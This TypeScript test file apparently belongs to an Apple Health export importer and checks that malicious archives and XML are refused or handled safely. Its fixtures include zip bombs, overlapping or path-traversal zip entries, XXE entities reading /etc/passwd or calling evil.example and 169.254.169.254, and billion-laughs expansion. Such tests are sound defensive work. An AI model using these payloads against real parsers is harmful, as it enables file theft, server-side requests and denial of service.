import { describe, expect, test } from "vitest";
import { appleExport, quantity } from "../../test/fixtures/apple-export";
import { importFile } from "../../test/fixtures/import-file";
import { zip } from "../../test/fixtures/zip";
import { memorySource } from "./byte-source";
import { readAll } from "./chunk-reader";
import { listZip } from "./zip/directory";
import { openEntry } from "./zip/open";

const MAIN = "apple_health_export/export.xml";
const LIMITS = { bytes: 50_000_000, ratio: 300, ratioFrom: 1_000_000 };
const unreadable = { code: "file_unreadable" };
const record = quantity("BodyMass", 71, "kg", "2026-11-20 08:00:00 +0100");
const document = appleExport([record]);

/** The archive with the places that its directory names moved to that of the first entry. */
function overlapping(files: number): Uint8Array {
  const archive = zip(
    Array.from({ length: files }, (_, i) => ({ name: `apple_health_export/electrocardiograms/ecg_${i}.csv`, content: "x".repeat(5_000) })),
  );
  const view = new DataView(archive.buffer);
  for (let at = 0; at + 46 < archive.length; at++) if (view.getUint32(at, true) === 0x02014b50) view.setUint32(at + 42, 0, true);
  return archive;
}

/** An end of a directory that states a length. */
function stating(length: number, entries: number): Uint8Array {
  const bytes = new Uint8Array(200);
  const view = new DataView(bytes.buffer);
  view.setUint32(178, 0x06054b50, true);
  view.setUint16(178 + 8, entries, true);
  view.setUint16(178 + 10, entries, true);
  view.setUint32(178 + 12, length, true);
  return bytes;
}

describe("an archive that means harm", () => {
  test.each([2, 50])("whose %i entries share the same bytes is refused", async (files) => {
    await expect(listZip(memorySource(overlapping(files)))).rejects.toMatchObject(unreadable);
  });

  test("whose entries lie side by side is not mistaken for one", async () => {
    const { entries } = await listZip(
      memorySource(
        zip([
          { name: "a", content: "1" },
          { name: "b", content: "" },
          { name: "c", content: "3", descriptor: true },
        ]),
      ),
    );
    expect(entries.map(({ name }) => name)).toEqual(["a", "b", "c"]);
  });

  test("that states a directory of a million entries is refused unread", async () => {
    await expect(listZip(memorySource(stating(70 * 1024 * 1024, 0xffff)))).rejects.toMatchObject({
      message: expect.stringContaining("too large"),
    });
  });

  test.each([0, 1, 45, 46, 150, 178, 0xffff_ffff])("that states a directory of %i bytes that are none is refused", async (length) => {
    await expect(
      listZip(memorySource(stating(length, 3))).then(({ entries }) => importFile(new Uint8Array(entries.length))),
    ).rejects.toMatchObject(unreadable);
  });

  test("in an archive in an archive is not opened", async () => {
    const inner = zip([{ name: MAIN, content: document }]);
    const outer = zip([{ name: "apple_health_export/export.zip", content: inner }]);
    await expect(importFile(outer)).rejects.toMatchObject(unreadable);
  });

  test.each([1, 10, 60])("that makes %i megabytes out of nearly nothing is stopped by its ratio", async (megabytes) => {
    const bomb = zip([{ name: "bomb", content: new Uint8Array(megabytes * 1_000_000) }]);
    const { entries } = await listZip(memorySource(bomb));
    const [entry] = entries;
    if (entry === undefined) throw new TypeError("an archive of one entry");
    const reading = async () => await readAll(await openEntry(memorySource(bomb), entry, LIMITS), LIMITS.bytes);
    if (megabytes === 1) expect((await reading())?.byteLength).toBe(1_000_000);
    else await expect(reading()).rejects.toMatchObject(unreadable);
  });

  test.each([
    "../export.xml",
    "/apple_health_export/export.xml",
    "..\\export.xml",
    "C:/export.xml",
    "apple_health_export/../../export.xml",
    "./../export.xml",
  ])(
    "whose document is named %s is not read by that name",
    async (name) => await expect(importFile(zip([{ name, content: document }]))).rejects.toMatchObject(unreadable),
  );

  test("with the same name twice is read once, or refused", async () => {
    const twice = zip([
      { name: MAIN, content: document },
      { name: MAIN, content: document },
    ]);
    const read = await importFile(twice).then(
      ({ report }) => report,
      () => undefined,
    );
    expect(JSON.stringify(read ?? {})).not.toContain('"read":2');
  });

  test.each([0, 1, 2, 3, 4, 8, 16, 22, 30])("of %i bytes is no archive", async (length) => {
    await expect(importFile(zip([{ name: MAIN, content: document }]).slice(0, length))).rejects.toMatchObject(unreadable);
  });
});

describe("a document that means harm", () => {
  const readCount = async (xml: string) => JSON.stringify(await importFile(xml));
  const withHead = (head: string, body = record) =>
    `<?xml version="1.0" encoding="UTF-8"?>\n${head}\n<HealthData locale="en">${body}</HealthData>`;

  test.each([
    ["an entity of a file", '<!DOCTYPE HealthData [<!ENTITY x SYSTEM "file:///etc/passwd">]>'],
    ["an entity of an address", '<!DOCTYPE HealthData [<!ENTITY x SYSTEM "http://169.254.169.254/">]>'],
    ["a parameter entity", '<!DOCTYPE HealthData [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>'],
    ["a document type elsewhere", '<!DOCTYPE HealthData SYSTEM "http://evil.example/x.dtd">'],
    ["a public document type", '<!DOCTYPE HealthData PUBLIC "-//x//y" "http://evil.example/x.dtd">'],
    ["a style sheet", '<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>'],
    ["an inclusion", "<!-- <xi:include href='file:///etc/passwd'/> -->"],
  ])("by %s fetches nothing and says nothing of it", async (_what, head) => {
    const seen = await readCount(withHead(head, record.replace("71", "&x;")));
    expect(seen).not.toMatch(/root:|evil\.example|169\.254/);
  });

  test("by entities of entities is read in no time, and none of them is", async () => {
    const laughs = Array.from({ length: 20 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join("");
    const startedAt = performance.now();
    const seen = await readCount(withHead(`<!DOCTYPE HealthData [<!ENTITY l0 "ha">${laughs}]>`, record.replace("71", "&l20;")));
    expect(performance.now() - startedAt).toBeLessThan(5_000);
    expect(seen).not.toContain("haha");
  });

  test.each<[string, string]>([
    ["a hundred thousand elements deep", `${"<a>".repeat(100_000)}${"</a>".repeat(100_000)}`],
    ["elements that never end", "<Record ".repeat(20_000)],
    ["ten thousand attributes", `<Record ${Array.from({ length: 10_000 }, (_, i) => `a${i}="1"`).join(" ")}/>`],
    ["the same attribute again and again", `<Record ${'type="x" '.repeat(10_000)}/>`],
    ["endless digits", record.replace("71", "9".repeat(100_000))],
    ["a number beyond all", record.replace("71", "1e400")],
    ["a date beyond all", record.replaceAll("2026-11-20", "999999999-99-99")],
    ["characters that XML forbids", record.replace("71", "&#0;&#xD800;&#x110000;")],
    ["a NUL", record.replace("71", "\u0000")],
  ])("by %s ends, and what is right in it counts at most once", async (_what, body) => {
    const startedAt = performance.now();
    const seen = await importFile(appleExport([body, record])).then(
      (read) => JSON.stringify(read),
      (error: unknown) => String(error),
    );
    expect(performance.now() - startedAt).toBeLessThan(10_000);
    expect(seen).not.toMatch(/RangeError|TypeError|Maximum call stack/);
  });
});
